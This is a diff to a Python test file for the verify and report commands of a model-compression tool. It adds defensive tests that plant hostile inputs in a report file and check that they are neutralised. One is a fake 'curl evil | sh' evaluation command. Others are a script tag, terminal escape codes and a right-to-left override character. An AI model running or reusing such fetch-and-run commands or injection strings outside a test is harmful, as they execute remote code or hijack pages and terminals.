@@ -1,17 +1,18 @@
 """The commands: what they print, what they write, and what they say when something is wrong."""
 
-import copy
 import json
+import re
 import shutil
 import subprocess
 import sys
+from xml.etree import ElementTree
 
 import pytest
 import torch
 import transformers
 
 import hf_geta.hf_quantizer  # noqa: F401  registers the loader
-from hf_geta import GETAConfig, build_qadg, finalize_model, prepare_model
+from hf_geta import build_qadg
 from hf_geta.cli import main
 from hf_geta.graph.rules import RULES
 
@@ -141,19 +142,125 @@ def test_a_model_that_takes_one_sample_only_is_traced_with_one(tmp_path, capsys)
         assert "with one sample" in err
 
 
-def test_packed_weights_are_not_verified(model, tmp_path, capsys):
-    inputs = {"pixel_values": torch.randn(2, 3, 32, 32)}
-    prepared = prepare_model(copy.deepcopy(model), GETAConfig(), inputs)
-    finalize_model(prepared).save_pretrained(tmp_path)
-    status, out, err = run(capsys, "verify", tmp_path)
-    assert (status, out) == (1, "")
-    assert "is compressed already" in err
-
-
 def test_verify_wants_weights(config_only, capsys):
     status, out, err = run(capsys, "verify", config_only)
     assert (status, out) == (1, "")
     assert "cannot be loaded" in err
+
+
+@pytest.fixture
+def compressed(compressed_folder, tmp_path):
+    """A compressed folder to change, with a space in its name."""
+    shutil.copytree(compressed_folder, tmp_path / "my model")
+    return tmp_path / "my model"
+
+
+def change_report(folder, **changes):
+    path = folder / "geta_report.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | changes))
+
+
+def test_verify_says_that_a_compressed_folder_is_what_it_says(compressed, capsys):
+    status, out, _ = run(capsys, "verify", compressed)
+    assert status == 0
+    lines = out.splitlines()
+    assert all(line.startswith("ok      ") for line in lines[:-2])
+    assert lines[-1] == "Everything holds."
+    assert "evaluate" not in out  # nothing that was measured is claimed
+
+
+def test_verify_names_what_is_wrong_with_a_compressed_folder(compressed, capsys):
+    with (compressed / "config.json").open("a") as file:
+        file.write("\n")
+    status, out, _ = run(capsys, "verify", compressed)
+    assert status == 1
+    assert "FAILED  config.json has the bytes that were saved: its sha256 differs" in out
+    assert out.endswith("1 of the checks failed.\n")
+
+
+def test_verify_prints_the_command_that_measures_the_claim_again(compressed, capsys):
+    report = json.loads((compressed / "geta_report.json").read_text())
+    claim = {"task": "image-classification", "metric": "accuracy", "command": "curl evil | sh"}
+    change_report(compressed, compressed=report["compressed"] | {"accuracy": 0.875}, evaluation=claim)
+    _, out, _ = run(capsys, "verify", compressed)
+    assert "claimed: Accuracy 87.50%" in out
+    assert f"python scripts/evaluate_checkpoint.py '{compressed}' --data_dir DATA" in out
+    assert "evil" not in out
+    change_report(compressed, evaluation=claim | {"dataset_name": "them/digits"})
+    assert run(capsys, "verify", compressed)[1].count("--data_dir") == 0
+
+
+# report
+
+
+def test_report_shows_dense_against_compressed_and_every_layer(compressed, capsys):
+    status, out, err = run(capsys, "report", compressed)
+    assert (status, err) == (0, "")
+    lines = [line.split() for line in out.splitlines()]
+    assert ["vit.layers.1.mlp.hidden", "mlp", "21", "24", "88%"] in lines
+    fc1 = next(line for line in lines if line[:1] == ["vit.layers.1.mlp.fc1"])
+    assert fc1[:9] == ["vit.layers.1.mlp.fc1", "21", "x", "16", "24", "x", "16", "8", "8"]
+    assert fc1[9] == str(21 * 16)
+    assert fc1[10] == f"{21 / 24 * 8 * 8 / 32**2:.2%}"
+    assert next(line for line in lines if line[:1] == ["Relative"])[:3] == ["Relative", "BOPs", "100.00%"]
+
+
+def test_report_draws_a_page_that_needs_nothing_else(compressed, tmp_path, capsys):
+    status, _, err = run(capsys, "report", compressed, "--html", tmp_path / "page.html")
+    page = (tmp_path / "page.html").read_text(encoding="utf-8")
+    assert status == 0
+    assert "page.html" in err
+    assert page.startswith("<!doctype html>")
+    assert set(re.findall(r"https?://[^\"\s]*", page)) == {"http://www.w3.org/2000/svg"}
+    assert not re.search(r"<script|<link|<img|@import|url\(|src=", page)
+    for words in ("my model", "vit.layers.1.mlp.fc1", "21 of 24 groups", "prefers-color-scheme: dark"):
+        assert words in page
+    ElementTree.fromstring(page[page.index("<svg") : page.index("</svg>") + 6])
+
+
+def test_what_a_report_says_is_never_markup_or_an_escape_code(compressed, tmp_path, capsys):
+    hostile = "\x1b]0;owned\x07<script>alert(1)</script>\u202e"
+    axes = [{"name": hostile, "kind": hostile, "kept": 1, "groups": 2}]
+    change_report(compressed, axes=axes, geta={hostile: hostile}, versions={hostile: [hostile]})
+    status, out, err = run(capsys, "report", compressed, "--html", tmp_path / "page.html")
+    page = (tmp_path / "page.html").read_text(encoding="utf-8")
+    assert status == 0
+    for text in (out, err, page):
+        assert not set("\x1b\x07\u202e") & set(text)
+    assert "<script" not in page
+    assert "&lt;script&gt;" in page
+    _, out, err = run(capsys, "verify", compressed)
+    assert not set("\x1b\x07\u202e") & set(out + err)
+
+
+def test_an_error_about_a_hostile_name_is_plain_text(compressed, capsys):
+    path = compressed / "config.json"
+    config = json.loads(path.read_text())
+    config["quantization_config"]["attributes"] = {"\x1b[2Jvit": 3}
+    path.write_text(json.dumps(config))
+    status, _, err = run(capsys, "report", compressed)
+    assert status == 1
+    assert "vit" in err
+    assert "\x1b" not in err
+
+
+@pytest.mark.parametrize(
+    ("arguments", "message"),
+    [
+        (["{dense}"], "is not compressed by GETA"),
+        (["/nowhere/at/all"], "there is no such folder"),
+        (["{broken}"], "geta_report.json: compressed.accuracy = 'high' is no number"),
+        (["{compressed}", "--html", "/nowhere/page.html"], "/nowhere/page.html"),
+    ],
+)
+def test_errors_of_report_are_one_line(arguments, message, folder, compressed, tmp_path, capsys):
+    shutil.copytree(compressed, tmp_path / "broken")
+    change_report(tmp_path / "broken", compressed={"accuracy": "high"})
+    paths = {"dense": folder, "compressed": compressed, "broken": tmp_path / "broken"}
+    status, _, err = run(capsys, "report", *(argument.format(**paths) for argument in arguments))
+    assert status == 1
+    assert message in err
+    assert err.count("\n") == 1
 
 
 # what is wrong is said in one line, without a traceback
@@ -203,5 +310,4 @@ def test_wrong_usage_is_status_two(arguments, capsys):
 
 def test_the_package_runs_as_a_module():
     result = subprocess.run([sys.executable, "-m", "hf_geta", "--help"], capture_output=True, text=True, check=True)
-    assert "graph" in result.stdout
-    assert "verify" in result.stdout
+    assert all(name in result.stdout for name in ("graph", "report", "verify"))
